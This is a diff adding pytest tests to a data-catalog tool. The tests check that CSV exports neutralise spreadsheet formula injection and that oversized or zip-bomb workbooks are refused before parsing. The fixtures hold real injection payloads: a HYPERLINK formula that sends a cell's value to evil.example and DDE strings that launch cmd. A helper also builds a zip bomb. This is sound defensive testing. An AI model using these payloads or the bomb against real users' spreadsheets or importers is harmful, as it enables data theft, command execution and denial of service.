@@ -207,6 +207,37 @@ def test_csv_in_gb18030_round_trips_and_exports_the_same_bytes_twice(hebei, tmp_
     assert stdout.stdout_bytes.decode("utf-8-sig").splitlines()[0] == ",".join(c.header for c in COLUMNS)
 
 
+# Cells a spreadsheet would run as formulas (OWASP's CSV injection examples, and a value that
+# was already quoted), in the fields a department writes freely.
+FORMULAS = dict(name="=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", summary="+1+cmd|' /C calc'!A0",
+                source_system="@SUM(1+1)*cmd|' /C calc'!A0", share_type="conditional",
+                share_condition="-2+3+cmd|' /C calc'!A0", keywords=("-1", "企业"),
+                data_items=(DataItem("=A1", "string", 20, "'=已加引号"), DataItem("企业名称", "string", 200)))
+
+
+def test_a_csv_export_runs_no_formula_and_imports_back_unchanged(hebei, tmp_path):
+    entries = [dataclasses.replace(e, **{**FORMULAS, "name": f"{FORMULAS['name']}{i}"}) for i, e in
+               enumerate(department_entries(3))]
+    reply = hebei.catalog.PublishEntries(iter([catalog_pb2.PublishEntriesRequest(
+        entries=[serde.entry_to_proto(e) for e in entries])]))
+    assert reply.created == 3
+    path = tmp_path / "export.csv"
+    assert cascade("entry", "export", path, "--target", hebei.node.address).exit_code == 0
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in list(csv.reader(f))[1:] for c in row]
+    # what Excel would run starts with a quote; a plain number (-1 alone) would not, but the
+    # keywords cell holds more than the number
+    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
+    assert {c for c in cells if c.startswith("'")} >= {"'" + FORMULAS["summary"], "'" + FORMULAS["source_system"],
+                                                       "'" + FORMULAS["share_condition"]}
+    result = cascade("entry", "import", path, "--target", hebei.node.address)
+    assert result.exit_code == 0 and "created 0, updated 0, unchanged 3" in result.stdout, result.output
+    after = {e.resource_code: e for e in listed(hebei)}
+    assert sorted(content(e) for e in after.values()) == sorted(content(e) for e in entries)
+
+
 def test_a_sheet_with_bad_cells_reports_every_one_and_stores_nothing(hebei, tmp_path):
     good = department_entries(100)
     assert cascade("entry", "import", _sheet(tmp_path / "first.xlsx", good[:3]), "--config", hebei.config_path,
@@ -249,6 +280,48 @@ def _sheet(path, entries=(), rows=None) -> pathlib.Path:
     headers = [c.header for c in COLUMNS]
     lists.write_sheet(path, headers, [[row[h] for h in headers] for row in rows])
     return path
+
+
+def zip_bomb(path: pathlib.Path, mib: int) -> pathlib.Path:
+    """A workbook-shaped zip whose one sheet unzips to about MIB mebibytes of empty rows."""
+    import zipfile
+
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
+        book.writestr("[Content_Types].xml", "<Types/>")
+        rows = b"<row/>" * (2**20 // 6)
+        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            for _ in range(mib):
+                sheet.write(rows)
+    return path
+
+
+@pytest.fixture
+def parsing_forbidden(monkeypatch):
+    """openpyxl refuses to open anything: a file refused by its limits never gets that far."""
+    def parse(*args, **kwargs):
+        raise RuntimeError("the workbook was handed to openpyxl")
+
+    monkeypatch.setattr(openpyxl, "load_workbook", parse)
+
+
+def test_a_zip_bomb_is_refused_before_it_is_parsed(tmp_path, parsing_forbidden):
+    bomb = zip_bomb(tmp_path / "清单.xlsx", 80)
+    assert bomb.stat().st_size < 2**20
+    result = cascade("entry", "import", bomb, "--dry-run")
+    assert result.exit_code != 0
+    assert f"{bomb}: refused: its parts unzip to {80 * (2**20 // 6 * 6) + 8:,} bytes, over the limit of " \
+           f"{lists.files.LIMITS.max_expanded:,}" in result.output, result.output
+
+
+def test_a_part_that_unzips_too_many_times_its_size_or_a_file_too_large_is_refused(tmp_path, parsing_forbidden):
+    dense = zip_bomb(tmp_path / "dense.xlsx", 8)  # under the total, but ~600 times its zipped size
+    with pytest.raises(lists.ListFileError, match=r"dense.xlsx: refused: its part xl/worksheets/sheet1.xml "
+                                                  r"unzips 8,388,576 bytes from [\d,]+, more than the limit of 100 times"):
+        lists.read_sheet(dense)
+    big = tmp_path / "big.csv"
+    big.write_text("共享信息名称,数据项\n" + "名称,数据项\n" * 1000, encoding="utf-8")
+    with pytest.raises(lists.ListFileError, match=r"big.csv: refused: [\d,]+ bytes, over the limit of 4,096"):
+        lists.read_sheet(big, lists.files.FileLimits(max_bytes=4096))
 
 
 def test_missing_columns_and_unknown_headers(tmp_path):
